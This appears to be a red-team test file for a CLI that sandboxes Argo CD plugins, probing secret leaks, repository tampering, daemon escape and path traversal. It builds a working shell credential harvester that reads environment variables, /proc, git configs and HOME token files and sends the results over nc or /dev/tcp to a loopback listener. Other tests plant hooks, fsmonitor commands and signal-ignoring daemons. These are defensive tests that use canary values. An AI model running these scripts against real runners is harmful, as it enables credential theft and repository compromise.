// Red-team attacks on `render` and `diff` (issue 11), as a hostile pull-request author would run
// them: the plugin is the attacker's code, run through the real bundled CLI (dist/cli.js) in every
// sandbox mode this machine offers. Each test fails when the hole it probes is open. Modes that
// are not isolated by design (host with unshare only, none) are checked for what they do promise
// (a clean environment, a workspace of git content only, the label "not isolated") and their
// exposures are asserted as exposures, so a silent change in either direction is seen.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, writeFileSync, existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { type Mode, appYaml, gitRepo, listener, modes, pluginYaml, PRINT_CM, processesWith, reap, runCli, scratch, snapshot, survivors, liveContainers } from './attack-helpers.js';

// Canary values are assembled at run time so that no command line of ours holds them whole.
const C = (what: string) => ['rtcan', 'ary-', what].join('');

/**
 * The secret hunter: collects every string it can reach from the environment, /proc (environ and
 * cmdline of every visible process, mountinfo), the workspace's and the user's .git/config, the
 * runner's HOME files and files outside the repository, then prints the canaries it found into
 * its manifest and its stderr and sends them to a loopback listener.
 */
function hunter(o: { home: string; outside: string[]; userRepo: string; port: number }): string {
  const homeFiles = [`${o.home}/.gitconfig`, `${o.home}/.docker/config.json`, `${o.home}/.npmrc`, `${o.home}/.git-credentials`];
  const q = (l: string[]) => l.map((f) => `'${f}'`).join(' ');
  // each source's finds are tagged (own-, proc-, ws-, home-, abs-) so a test knows where a leak came from
  return `P=rtcan; P="\${P}ary"
tag() { grep -o "$P-[a-z0-9-]*" | sed "s/^$P-/$P-$1-/"; }
own="$(env 2>/dev/null)"
procs=""
for p in /proc/[0-9]*; do
  procs="$procs $( { tr '\\0' ' ' < $p/environ; } 2>/dev/null) $( { tr '\\0' ' ' < $p/cmdline; } 2>/dev/null)"
done
procs="$procs $(cat /proc/self/mountinfo 2>/dev/null)"
ws=""
for d in . .. ../.. ../../.. ../../../..; do ws="$ws $(cat $d/.git/config 2>/dev/null)"; done
ws="$ws $(git config --list 2>/dev/null)"
home=""
for f in ${q(homeFiles)}; do home="$home $(cat "$f" 2>/dev/null)"; done
abs=""
for f in ${q([`${o.userRepo}/.git/config`, ...o.outside])}; do abs="$abs $(cat "$f" 2>/dev/null)"; done
hits="$( { printf '%s\\n' "$own" | tag own; printf '%s\\n' "$procs" | tag proc; printf '%s\\n' "$ws" | tag ws; printf '%s\\n' "$home" | tag home; printf '%s\\n' "$abs" | tag abs; } | sort -u | tr '\\n' ' ')"
send() { if command -v busybox >/dev/null 2>&1; then busybox nc -w 2 127.0.0.1 ${o.port}; else bash -c 'exec 3<>/dev/tcp/127.0.0.1/$0 && cat >&3' ${o.port}; fi; }
printf 'sent %s\\n' "$hits" | send >/dev/null 2>&1
echo "hunter found: $hits" >&2
printf 'apiVersion: v1\\nkind: ConfigMap\\nmetadata:\\n  name: loot\\ndata:\\n  hits: "%s"\\n' "$hits"
`;
}

/** Where the runner keeps things: HOME files, an event payload, a sibling checkout. */
function plantRunner(dir: string): { home: string; outside: string[]; env: Record<string, string> } {
  const home = join(dir, 'home');
  mkdirSync(join(home, '.docker'), { recursive: true });
  writeFileSync(join(home, '.gitconfig'), `[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic ${C('home-gitconfig')}\n`);
  writeFileSync(join(home, '.docker/config.json'), JSON.stringify({ auths: { 'ghcr.io': { auth: C('docker-auth') } } }));
  writeFileSync(join(home, '.npmrc'), `//registry.npmjs.org/:_authToken=${C('npmrc')}\n`);
  writeFileSync(join(home, '.git-credentials'), `https://x:${C('git-credentials')}@github.com\n`);
  const runner = join(dir, 'runner-temp');
  mkdirSync(runner);
  writeFileSync(join(runner, 'event.json'), JSON.stringify({ token: C('event-payload') }));
  writeFileSync(join(dir, 'sibling-secret.txt'), C('outside-file') + '\n');
  return {
    home,
    outside: [join(runner, 'event.json'), join(dir, 'sibling-secret.txt')],
    env: {
      HOME: home,
      GITHUB_TOKEN: C('env-github-token'),
      AWS_SECRET_ACCESS_KEY: C('env-aws'),
      ACTIONS_RUNTIME_TOKEN: C('env-actions-runtime'),
      GITHUB_EVENT_PATH: join(runner, 'event.json'),
      RUNNER_TEMP: runner,
    },
  };
}

/** The checkout credential the way actions/checkout leaves it, plus a credential helper and an insteadOf with a token. */
function plantGitCredentials(git: (...a: string[]) => string): void {
  git('config', 'http.https://github.com/.extraheader', `AUTHORIZATION: basic ${C('extraheader')}`);
  git('config', 'credential.helper', `!f() { echo password=${C('credential-helper')}; }; f`);
  git('config', `url.https://x-access-token:${C('insteadof')}@github.com/.insteadOf`, 'https://github.com/');
  git('config', 'remote.origin.url', `https://oauth2:${C('remote-url')}@github.com/acme/gitops.git`);
}

/**
 * The leftovers that count as a hole in `mode`. Without namespaces (none) a process that called
 * setsid has left the process group and nothing can find it again (documented exposure of none);
 * everything else, and everything in every other mode, must be gone.
 */
async function mustDie(mode: Mode, left: number[]): Promise<number[]> {
  const alive = (p: number) => {
    try {
      const stat = readFileSync(`/proc/${p}/stat`, 'utf8');
      return !/^[ZX]/.test(stat.slice(stat.lastIndexOf(')') + 2));
    } catch {
      return false;
    }
  };
  // a process being killed may take a moment to go (2 cores shared by the whole suite)
  let bad = left.filter((p) => alive(p) && !escapee(mode)(p));
  for (let i = 0; i < 25 && bad.length; i++) {
    await new Promise((r) => setTimeout(r, 200));
    bad = bad.filter((p) => alive(p));
  }
  return bad;
}

/** none: the setsid daemon (marked CMPKIND=setsid) is a documented escapee. */
function escapee(mode: Mode): (pid: number) => boolean {
  if (mode.name !== 'none') return () => false;
  return (p) => {
    try {
      return readFileSync(`/proc/${p}/environ`, 'latin1').includes('CMPKIND=setsid');
    } catch {
      return false;
    }
  };
}

for (const mode of modes()) {
  test(`render, sandbox ${mode.name}: a plugin hunting secrets (env, /proc, .git/config, HOME, runner files) and phoning home`, { skip: mode.skip }, async () => {
    const dir = scratch();
    const runner = plantRunner(dir);
    const net = await listener();
    try {
      const repo = gitRepo(dir, { 'README.md': 'x\n' });
      const plugin = pluginYaml('hunter', hunter({ home: runner.home, outside: runner.outside, userRepo: repo.root, port: net.port }));
      repo.commit({ 'argocd/plugin.yaml': plugin, 'argocd/apps/demo.yaml': appYaml('demo', 'hunter'), 'apps/demo/x.txt': '1\n' });
      plantGitCredentials(repo.git);
      // an ancestor whose command line and environment hold secrets, like the runner's worker
      const r = await runCli(['render', ...mode.args, '.'], {
        cwd: repo.root,
        env: { ...runner.env, ...mode.env, ANCESTOR_SECRET: C('ancestor-environ') },
        wrapper: ['sh', '-c', '"$@"; exit $?', C('ancestor-cmdline')],
      });
      const out = r.stdout + r.stderr;
      assert.equal(r.code, 0, out);
      assert.match(r.stdout, /name: loot/, 'the hunter ran and printed its manifest');
      // whatever reached any output, wherever it sits (the manifest is re-serialised)
      const found = new Set((out.match(/rtcanary-[a-z0-9-]+/g) ?? []).map((h) => h.replace(/^rtcanary-/, '')));
      // every mode: the plugin's own environment and its workspace's .git hold nothing of the runner
      const leaked = (source: string) => [...found].filter((f) => f.startsWith(`${source}-`));
      assert.deepEqual(leaked('own'), [], `sandbox ${mode.name}: the plugin's environment held runner secrets`);
      assert.deepEqual(leaked('ws'), [], `sandbox ${mode.name}: the workspace's .git held the user's credentials`);
      if (mode.isolated) {
        assert.deepEqual([...found], [], `sandbox ${mode.name}: the plugin found ${[...found].join(', ')}`);
        assert.equal(net.connections(), 0, `sandbox ${mode.name}: the plugin connected to 127.0.0.1:${net.port}`);
        assert.doesNotMatch(out, /not isolated/);
      } else {
        // what these modes do not hide, asserted so that the label stays true and the hunter is known to work
        assert.match(r.stderr, /plugin code is not isolated from this machine/);
        assert.ok(found.has('abs-outside-file') && found.has('abs-extraheader'), `sandbox ${mode.name}: files outside the workspace are readable (documented), found: ${[...found].join(' ')}`);
        if (mode.name === 'none') {
          assert.ok(found.has('proc-ancestor-environ') && found.has('proc-ancestor-cmdline') && found.has('proc-env-github-token'), 'none: other processes are visible (documented)');
          assert.ok(found.has('home-home-gitconfig'), 'none: HOME is readable (documented)');
          assert.ok(net.connections() > 0, 'none: the network is reachable (documented)');
        } else {
          // unshare: new PID and network namespaces, the runner's HOME hidden
          assert.deepEqual([...leaked('proc'), ...leaked('home')], [], 'unshare: other processes or HOME were readable');
          assert.equal(net.connections(), 0, 'unshare: the plugin connected out');
        }
      }
    } finally {
      await net.close();
    }
  });

  test(`diff, sandbox ${mode.name}: a plugin that plants tags, git config, hooks and files leaves the user's repository byte-identical`, { skip: mode.skip }, async () => {
    const dir = scratch();
    const repo = gitRepo(dir, { 'README.md': 'x\n' });
    // isolated modes: the user's repository by its absolute path too (none and unshare share this
    // machine's file system by design and say so; see the hunting test)
    const absolute = mode.isolated
      ? `git -C '${repo.root}' tag planted-abs 2>/dev/null; git -C '${repo.root}' config core.fsmonitor 'touch ${dir}/fsmonitor-ran' 2>/dev/null; echo x > '${repo.root}/planted-abs' 2>/dev/null`
      : '';
    const attack = (tag: string) => `${absolute}
git tag planted-${tag} 2>/dev/null
git config core.hooksPath /tmp 2>/dev/null
git config core.fsmonitor 'touch ${dir}/fsmonitor-ran' 2>/dev/null
git config --global core.fsmonitor 'touch ${dir}/fsmonitor-ran' 2>/dev/null
mkdir -p .git/hooks 2>/dev/null; printf '#!/bin/sh\\ntouch ${dir}/hook-ran\\n' > .git/hooks/post-checkout 2>/dev/null
for up in .. ../.. ../../.. ../../../.. ../../../../..; do echo planted > $up/planted-${tag} 2>/dev/null; git -C $up tag planted-up-${tag} 2>/dev/null; done
cd "$(git rev-parse --show-toplevel 2>/dev/null || echo .)" && git tag planted-top-${tag} 2>/dev/null; cd - >/dev/null
${PRINT_CM}`;
    const base = repo.commit({ 'argocd/plugin.yaml': pluginYaml('planter', attack('base')), 'argocd/apps/demo.yaml': appYaml('demo', 'planter'), 'apps/demo/x.txt': '1\n' });
    const head = repo.commit({ 'argocd/plugin.yaml': pluginYaml('planter', attack('head')), 'apps/demo/x.txt': '2\n' });
    repo.git('status', '--porcelain'); // let git refresh its index before the snapshot
    const before = snapshot(repo);
    const r = await runCli(['diff', '--base', base, '--head', head, '--format', 'json', ...mode.args], { cwd: repo.root, env: { HOME: join(dir, 'home'), ...mode.env } });
    assert.notEqual(r.code, 3, r.stderr);
    assert.doesNotMatch(r.stderr, /\n\s+at .*\(.*:\d+:\d+\)/, 'no stack trace');
    repo.git('status', '--porcelain');
    assert.equal(snapshot(repo), before, `sandbox ${mode.name}: the user's repository changed`);
    assert.ok(!existsSync(join(dir, 'fsmonitor-ran')) && !existsSync(join(dir, 'hook-ran')), 'a planted hook or fsmonitor ran');
    assert.deepEqual(
      readdirSync(dir).filter((n) => n.startsWith('planted')),
      [],
      'files planted next to the repository',
    );
  });

  test(`render, sandbox ${mode.name}: a daemon (setsid, double fork, SIGTERM ignored) does not outlive the render, nor its timeout`, { skip: mode.skip }, async () => {
    const containersBefore = new Set(mode.name.startsWith('container') ? liveContainers() : []);
    const dir = scratch();
    const marker = `cmpdaemon${process.pid}x${Math.random().toString(36).slice(2, 8)}`;
    // every process of the plugin inherits CMPMARK=<marker>, so leftovers can be found from outside
    const daemons = `export CMPMARK=${marker}
trap '' TERM HUP INT
(CMPKIND=setsid setsid sh -c "trap '' TERM HUP INT; exec sleep 300" </dev/null >/dev/null 2>&1 &)
(sh -c "trap '' TERM HUP INT; exec sleep 300" </dev/null >/dev/null 2>&1 &) &
sh -c "trap '' TERM; exec sleep 300" </dev/null >/dev/null 2>&1 &
`;
    const repo = gitRepo(dir, {
      'argocd/plugin.yaml': pluginYaml('daemons', `${daemons}${PRINT_CM}`),
      'argocd/apps/demo.yaml': appYaml('demo', 'daemons'),
      'apps/demo/x.txt': '1\n',
      'argocd/plugin-slow.yaml': pluginYaml('slow', `${daemons}exec sleep 300`),
      'argocd/apps/slow.yaml': appYaml('slow', 'slow', 'apps/demo'),
    });
    void repo;
    try {
      const ok = await runCli(['render', ...mode.args, '--app', 'demo', '.'], { cwd: repo.root, env: { HOME: join(dir, 'home'), ...mode.env } });
      assert.equal(ok.code, 0, ok.stderr);
      const left = await survivors(marker, 8000, escapee(mode));
      reap(left);
      assert.deepEqual(await mustDie(mode, left), [], `sandbox ${mode.name}: processes outlived a successful render`);

      const slow = await runCli(['render', ...mode.args, '--app', 'slow', '--timeout', '2s', '.'], { cwd: repo.root, env: { HOME: join(dir, 'home'), ...mode.env } });
      assert.equal(slow.code, 1, slow.stderr);
      assert.match(slow.stdout + slow.stderr, /render-failed/);
      const left2 = await survivors(marker, 8000, escapee(mode));
      reap(left2);
      assert.deepEqual(await mustDie(mode, left2), [], `sandbox ${mode.name}: processes outlived the timeout`);
      if (mode.name.startsWith('container')) assert.deepEqual(liveContainers(containersBefore), [], 'containers left');
    } finally {
      reap(await survivors(marker, 0));
    }
  });

  for (const sig of ['SIGINT', 'SIGTERM', 'SIGHUP', 'SIGQUIT'] as const) {
    test(`diff, sandbox ${mode.name}: ${sig} to cmp-lint during a render kills the plugin and its daemons and removes the temp dirs`, { skip: mode.skip }, async () => {
      const containersBefore = new Set(mode.name.startsWith('container') ? liveContainers() : []);
      const dir = scratch();
      const tmp = join(dir, 'tmp');
      mkdirSync(tmp);
      const marker = `cmpsig${process.pid}x${Math.random().toString(36).slice(2, 8)}`;
      const script = `export CMPMARK=${marker}
(CMPKIND=setsid setsid sh -c "trap '' TERM HUP INT QUIT; exec sleep 300" </dev/null >/dev/null 2>&1 &)
trap '' TERM HUP INT QUIT
exec sleep 300`;
      const repo = gitRepo(dir, { 'argocd/plugin.yaml': pluginYaml('stuck', PRINT_CM), 'argocd/apps/demo.yaml': appYaml('demo', 'stuck'), 'apps/demo/x.txt': '1\n' });
      const base = repo.git('rev-parse', 'HEAD').trim();
      const head = repo.commit({ 'argocd/plugin.yaml': pluginYaml('stuck', script), 'apps/demo/x.txt': '2\n' });
      const run = runCli(['diff', '--base', base, '--head', head, '--format', 'json', '--timeout', '60s', ...mode.args], {
        cwd: repo.root,
        env: { HOME: join(dir, 'home'), TMPDIR: tmp, ...mode.env },
      });
      try {
        // wait for the plugin to be up, then signal cmp-lint (the node process running dist/cli.js)
        const end = Date.now() + 60_000;
        while (processesWith(marker).length === 0 && Date.now() < end) await new Promise((r) => setTimeout(r, 200));
        assert.ok((await survivors(marker, 0)).length > 0, 'the plugin started');
        const cli = processesWith(join('dist', 'cli.js')).filter((p) => {
          try {
            return readFileSync(`/proc/${p}/environ`, 'latin1').includes(`TMPDIR=${tmp}`);
          } catch {
            return false;
          }
        });
        assert.equal(cli.length, 1, 'found cmp-lint');
        process.kill(cli[0], sig);
        const r = await run;
        assert.ok(r.code === 130 || r.signal === sig || r.code === 128 + 2, `exit ${r.code} ${r.signal}\n${r.stderr}`);
        assert.doesNotMatch(r.stderr, /\n\s+at .*\(.*:\d+:\d+\)/, 'no stack trace');
        const left = await survivors(marker, 8000, escapee(mode));
        reap(left);
        assert.deepEqual(await mustDie(mode, left), [], `sandbox ${mode.name}: plugin processes outlived ${sig}`);
        assert.deepEqual(readdirSync(tmp).filter((n) => n.startsWith('cmp-lint')), [], `temp dirs left after ${sig}`);
        assert.equal(repo.git('worktree', 'list').trim().split('\n').length, 1, 'a worktree stayed registered');
        if (mode.name.startsWith('container')) assert.deepEqual(liveContainers(containersBefore), [], 'containers left');
      } finally {
        reap(await survivors(marker, 0));
        await run.catch(() => undefined);
      }
    });
  }
}

// ---------------------------------------------------------------------------------------------
// Paths that leave the repository (the repo-server refuses them; so must we, in every mode)

const strongest = modes().find((m) => !m.skip && m.isolated) ?? modes().find((m) => m.name === 'none')!;

test(`render, sandbox ${strongest.name}: .argocd-source files, app paths and files that point outside the repository are refused, nothing outside is read`, async () => {
  const dir = scratch();
  const outside = join(dir, 'outside');
  mkdirSync(outside);
  writeFileSync(join(outside, 'values.txt'), C('outside-target') + '\n');
  writeFileSync(join(outside, '.argocd-source.yaml'), `plugin:\n  env:\n    - name: STOLEN\n      value: ${C('outside-override')}\n`);
  const show = `cat * .argocd-source*.yaml 2>/dev/null | grep -o 'rtcan[a]ry-[a-z-]*' >&2; ${PRINT_CM}`;
  const repo = gitRepo(dir, {
    'argocd/plugin.yaml': pluginYaml('show', show),
    'argocd/apps/a-override.yaml': appYaml('a-override', 'show', 'apps/a'),
    'argocd/apps/b-link-path.yaml': appYaml('b-link-path', 'show', 'apps/b'),
    'argocd/apps/c-dotdot.yaml': appYaml('c-dotdot', 'show', '../outside'),
    'argocd/apps/d-file-link.yaml': appYaml('d-file-link', 'show', 'apps/d'),
    'apps/a/x.txt': '1\n',
    'apps/d/x.txt': '1\n',
  });
  const { symlinkSync } = await import('node:fs');
  symlinkSync(join(outside, '.argocd-source.yaml'), join(repo.root, 'apps/a/.argocd-source-a-override.yaml'));
  symlinkSync('../../outside', join(repo.root, 'apps/b'));
  symlinkSync('../../../outside/values.txt', join(repo.root, 'apps/d/values.txt'));
  repo.commit({}, 'links');
  const r = await runCli(['render', ...strongest.args, '--format', 'json', '.'], { cwd: repo.root, env: { HOME: join(dir, 'home'), ...strongest.env } });
  const out = r.stdout + r.stderr;
  assert.doesNotMatch(out, /\n\s+at .*\(.*:\d+:\d+\)|internal error/i, 'no crash');
  assert.equal(out.match(/rtcanary-[a-z-]+/g), null, `something outside the repository reached a plugin or the report:\n${out.slice(-3000)}`);
  assert.match(out, /out-of-bounds symlinks/, out.slice(-3000));
  assert.equal(r.code, 1, out.slice(-3000));
  // without links (which refuse the whole repository), a path that climbs out is refused on its own
  const repo2 = gitRepo(join(dir, 'second'), { 'argocd/plugin.yaml': pluginYaml('show', show), 'argocd/apps/c-dotdot.yaml': appYaml('c-dotdot', 'show', '../../outside'), 'x.txt': '1\n' });
  const r2 = await runCli(['render', ...strongest.args, '.'], { cwd: repo2.root, env: { HOME: join(dir, 'home'), ...strongest.env } });
  assert.equal(r2.code, 1, r2.stderr);
  assert.match(r2.stdout + r2.stderr, /c-dotdot[^\n]*app path outside root/);
  assert.equal((r2.stdout + r2.stderr).match(/rtcanary-[a-z-]+/g), null);
});

for (const mode of modes().filter((m) => m.isolated)) {
  test(`render, sandbox ${mode.name}: PATH naming the repository root (or its parent) does not bring the user's .git into the sandbox`, { skip: mode.skip }, async () => {
    const dir = scratch();
    const repo = gitRepo(dir, { 'README.md': 'x\n' });
    const steal = `s="$(cat '${repo.root}/.git/config' '${dir}/repo/.git/config' 2>/dev/null | grep -o 'rtcan[a]ry-[a-z-]*' | tr '\\n' ' ')"
printf 'apiVersion: v1\\nkind: ConfigMap\\nmetadata:\\n  name: p\\ndata:\\n  s: "%s"\\n' "$s"`;
    repo.commit({ 'argocd/plugin.yaml': pluginYaml('p', steal), 'argocd/apps/demo.yaml': appYaml('demo', 'p'), 'apps/demo/x.txt': '1\n' });
    plantGitCredentials(repo.git);
    for (const extra of [repo.root, dir]) {
      const r = await runCli(['render', ...mode.args, '.'], { cwd: repo.root, env: { HOME: join(dir, 'home'), ...mode.env, PATH: `${extra}:${process.env.PATH}` } });
      assert.equal(r.code, 0, r.stderr);
      assert.match(r.stdout, /name: p/);
      assert.equal((r.stdout + r.stderr).match(/rtcanary-[a-z-]+/g), null, `PATH=${extra}: the plugin read the user's .git/config`);
    }
  });
}
